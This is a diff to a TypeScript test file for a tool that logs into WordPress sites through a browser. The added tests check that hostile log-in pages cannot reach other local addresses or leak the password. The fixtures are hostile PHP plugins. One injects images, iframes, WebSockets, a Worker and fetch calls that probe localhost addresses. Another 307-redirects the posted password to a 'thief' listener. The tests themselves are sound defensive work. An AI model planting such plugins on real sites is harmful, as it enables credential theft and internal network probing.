@@ -147,8 +147,47 @@ test('nothing is filled into a page of another host that the log-in page leads t
     const site = await start({ muPlugins: { 'away.php': away } });
     const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
     expect(error.code).toBe('LOGIN_PAGE_NOT_FOUND');
-    expect(thief.received).not.toEqual([]);
-    expect(thief.received.join()).not.toContain('taken');
+    expect(thief.received).toEqual([]);
+  } finally {
+    await thief.close();
+  }
+});
+
+test('a browser at a log-in page reaches no other address of this machine, by whatever way the page tries', async () => {
+  const inside = await listen((_, response) => response.end());
+
+  const to = (host: string, way: string): string => `${inside.url(host)}/${way}`;
+  const curious = `<?php
+    add_action( 'init', function () { if ( isset( $_GET['away'] ) ) { header( 'Location: ' . $_GET['away'], true, 307 ); exit; } } );
+    add_action( 'login_footer', function () { ?>
+      <img src="${to('localhost', 'image')}"><img src="/?away=${to('localhost', 'redirected-image')}">
+      <iframe src="/?away=${to('localhost', 'redirected-frame')}"></iframe>
+      <script>
+        new WebSocket( '${to('localhost', 'socket').replace('http', 'ws')}' );
+        var work = "new WebSocket('${to('localhost', 'worker-socket').replace('http', 'ws')}'); fetch('${to('localhost', 'worker')}', { mode: 'no-cors' });";
+        new Worker( URL.createObjectURL( new Blob( [ work ] ) ) );
+        window.open( '${to('localhost', 'window')}' );
+        fetch( '/?away=${to('localhost', 'redirected')}', { method: 'POST', body: 'x', mode: 'no-cors' } );
+      </script><?php } );`;
+  try {
+    const site = await start({ scriptedLogin: 'token', muPlugins: { 'curious.php': curious } });
+    expect(await connectSource(asAdmin(site), connectDeps())).toMatchObject({ way: 'browser' });
+    expect(requestsTo(site).join()).toContain('redirected-image');
+    expect(inside.received).toEqual([]);
+  } finally {
+    await inside.close();
+  }
+});
+
+test('a form whose target passes the password on to another host is stopped', async () => {
+  const thief = await listen((_, response) => response.end());
+  const pass = `<?php add_action( 'login_init', function () {
+    if ( isset( $_POST['log'] ) ) { header( 'Location: ${thief.url('localhost')}/taken', true, 307 ); exit; } } );`;
+  try {
+    const site = await start({ scriptedLogin: 'token', muPlugins: { 'pass.php': pass } });
+    const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
+    expect(error.code).toBe('LOGIN_FAILED');
+    expect(thief.received).toEqual([]);
   } finally {
     await thief.close();
   }
